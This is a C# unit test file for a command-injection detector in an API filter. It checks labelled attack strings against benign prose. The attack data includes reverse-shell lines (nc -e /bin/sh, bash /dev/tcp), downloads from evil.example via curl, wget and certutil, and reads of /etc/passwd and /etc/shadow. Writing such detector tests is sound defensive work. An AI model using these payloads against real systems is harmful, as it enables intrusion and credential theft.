using ApiFilter.Detection;
using static ApiFilter.Tests.Detection.Others.DetectorTestSupport;

namespace ApiFilter.Tests.Detection.Others;

public class CommandInjectionDetectorTests
{
    public static TheoryData<string, DetectionReason> Attacks => new()
    {
        { ";id", DetectionReason.CommandChain },
        { "1;id;", DetectionReason.CommandChain },
                { "|id", DetectionReason.CommandChain },
        { "a | id", DetectionReason.CommandChain },
        { "|id|", DetectionReason.CommandChain },
        { "x || whoami", DetectionReason.CommandChain },
        { "x && uname -a", DetectionReason.CommandChain },
        { "x & whoami", DetectionReason.CommandChain },
        { "127.0.0.1 & ping -n 10 127.0.0.1 &", DetectionReason.CommandChain },
        { "; cat /etc/passwd", DetectionReason.CommandChain },
        { "| cat ../../etc/passwd", DetectionReason.CommandChain },
        { "&& sleep 10", DetectionReason.CommandChain },
        { "; sleep 5 #", DetectionReason.CommandChain },
        { ";ls -la", DetectionReason.CommandChain },
        { "; ls", DetectionReason.CommandChain },
        { "x;/bin/sh", DetectionReason.CommandChain },
        { "x;/usr/bin/id", DetectionReason.CommandChain },
        { "x | /bin/cat /etc/shadow", DetectionReason.CommandChain },
        { "a;(id)", DetectionReason.CommandChain },
        { "a; { whoami; }", DetectionReason.CommandChain },
        { "x\nid", DetectionReason.CommandChain },
        { "x\nwhoami", DetectionReason.CommandChain },
        { "x\r\ncurl http://evil.example/x.sh", DetectionReason.CommandChain },
        { "x%0aid", DetectionReason.CommandChain },
        { "x%0Awhoami", DetectionReason.CommandChain },
        { "x%3Bid", DetectionReason.CommandChain },
        { "x%253Bwhoami", DetectionReason.CommandChain },
        { "& C:\\Windows\\System32\\cmd.exe /c dir", DetectionReason.CommandChain },
        { "| powershell -enc AAAA", DetectionReason.CommandChain },
        { "&& certutil -urlcache -f http://x/a.exe a.exe", DetectionReason.CommandChain },
        { "; wget http://evil.example/s -O /tmp/s", DetectionReason.CommandChain },
        { "|nc -e /bin/sh 10.0.0.1 4444", DetectionReason.CommandChain },
        { "; python -c 'import os'", DetectionReason.CommandChain },
        { "; bash -i", DetectionReason.CommandChain },
        { "; echo vulnerable", DetectionReason.CommandChain },
        { "; type C:\\boot.ini", DetectionReason.CommandChain },
        { "`whoami`", DetectionReason.CommandSubstitution },
        { "`id -u`", DetectionReason.CommandSubstitution },
        { "x & WHOAMI", DetectionReason.CommandChain },
        { "x`whoami`y", DetectionReason.CommandSubstitution },
        { "` cat /etc/passwd `", DetectionReason.CommandSubstitution },
        { "$(id)", DetectionReason.CommandSubstitution },
        { "a$(whoami)b", DetectionReason.CommandSubstitution },
        { "$( sleep 5 )", DetectionReason.CommandSubstitution },
        { "$(/bin/id)", DetectionReason.CommandSubstitution },
        { "cat${IFS}/etc/passwd", DetectionReason.ShellExpansion },
        { "cat$IFS/etc/passwd", DetectionReason.ShellExpansion },
        { "x${PATH:0:1}etc", DetectionReason.ShellExpansion },
        { "{cat,/etc/passwd}", DetectionReason.ShellExpansion },
        { "x >/dev/null", DetectionReason.CommandRedirection },
        { "x 2>&1 >/dev/null", DetectionReason.CommandRedirection },
        { "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", DetectionReason.CommandRedirection },
        { "exec 5<>/dev/tcp/evil/80", DetectionReason.CommandRedirection },
        { "c''at /etc/passwd", DetectionReason.ShellQuoteEvasion },
        { "c\\at /etc/passwd", DetectionReason.ShellQuoteEvasion },
        { "w\"h\"o\"a\"m\"i", DetectionReason.ShellQuoteEvasion },
        { "wh''oami", DetectionReason.ShellQuoteEvasion },
        { "/bin/c'a't", DetectionReason.ShellQuoteEvasion },
        { "c$@at x", DetectionReason.ShellQuoteEvasion },
        { "un'a'me -a", DetectionReason.ShellQuoteEvasion },
    };

    public static TheoryData<string> Benign => Data(
        "Tom & Jerry; then lunch",
        "Skills: Java; Python; Perl",
        "Skills: C#; Python",
        "| id | name | price |",
        "R&D; sales & marketing",
        "AT&T, Q&A, M&Ms, B&B",
        "salt & pepper; more or less",
        "fish & chips; cat food",
        "Rock & roll; sleep well",
        "Be there at 5; sleep 8 hours is advice",
        "I'd like that; p's and q's",
        "i'd go; it's fine",
        "Don't; won't; can't",
        "He said \"cat\" twice",
        "Find the head; tail the cat",
        "The echo chamber",
        "a > b and c < d",
        "price: $5 (approx)",
        "Use {curly} braces, {name,other}",
        "See `README.md` for details",
        "Line one\nLine two\nPython is great",
        "Notes:\nCat food\nWhoami is a game",
        "A | B | C",
        "x || y",
        "left && right",
        "C:\\Users\\bob\\Documents\\report.docx",
        "mailto:a@b.example?subject=hi&body=there",
        "q=1&page=2&sort=name",
        "2 > 1; 3 < 4",
        "Ping me later; head home",
        "$(document).ready",
        "${name} and ${user.id}",
        "The set; the env; the id",
        "O'Brien & Sons; est. 1990",
        "| hostName | Yes | String |",
        "| Echo | Whoami |",
        "set `transformPdfFields` to **true**",
        "use `id` instead of `name`",
        "One of: `email`, `sms`, `call`, `start`",
        "<code>/dev/sdh</code> or <code>xvdh</code>",
        "");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attacks_are_refused_with_their_construct(string value, DetectionReason reason)
    {
        DetectionResult r = CommandInjectionDetector.Detect(Utf8(value));
        Assert.Equal(reason, r.Reason);
    }

    [Theory]
    [MemberData(nameof(Benign))]
    public void Prose_and_ordinary_values_pass(string value)
    {
        DetectionResult r = CommandInjectionDetector.Detect(Utf8(value));
        Assert.False(r.Detected, $"{value}: {r}");
    }

    [Fact]
    public void Offsets_point_at_the_separator_and_encoded_finds_say_so()
    {
        Assert.Equal(new DetectionResult(DetectionReason.CommandChain, 3, normalized: false), CommandInjectionDetector.Detect("abc;id"u8));
        Assert.Equal(new DetectionResult(DetectionReason.CommandChain, 1, normalized: true), CommandInjectionDetector.Detect("x%0aid"u8));
    }

    [Theory]
    [InlineData(";;;;")]
    [InlineData("; ")]
    [InlineData("''")]
    [InlineData("{a")]
    [InlineData("%25")]
    [InlineData("&\n")]
    [InlineData("> ")]
    [InlineData("c\\a'")]
    [InlineData("abcdefgh")]
    public void Work_is_linear_in_the_value_length(string unit)
    {
        byte[] k = Repeat(unit, 1024);
        byte[] m = Repeat(unit, 1024 * 1024);
        long small = 0, large = 0;
        CommandInjectionDetector.Detect(k, ref small);
        CommandInjectionDetector.Detect(m, ref large);
        Assert.InRange(large, 1, 24L * m.Length);
        Assert.True(large <= small * 1100, $"{unit}: {small} vs {large}");
    }

    [Fact]
    public void Nothing_is_allocated()
    {
        string[] values = ["Tom & Jerry; then lunch", ";id", "c''at /etc/passwd", "x%0aid", new string('a', 2000) + "%0a"];
        Assert.Equal(0, AllocatedBytes(CommandInjectionDetector.Detect, values));
    }
}
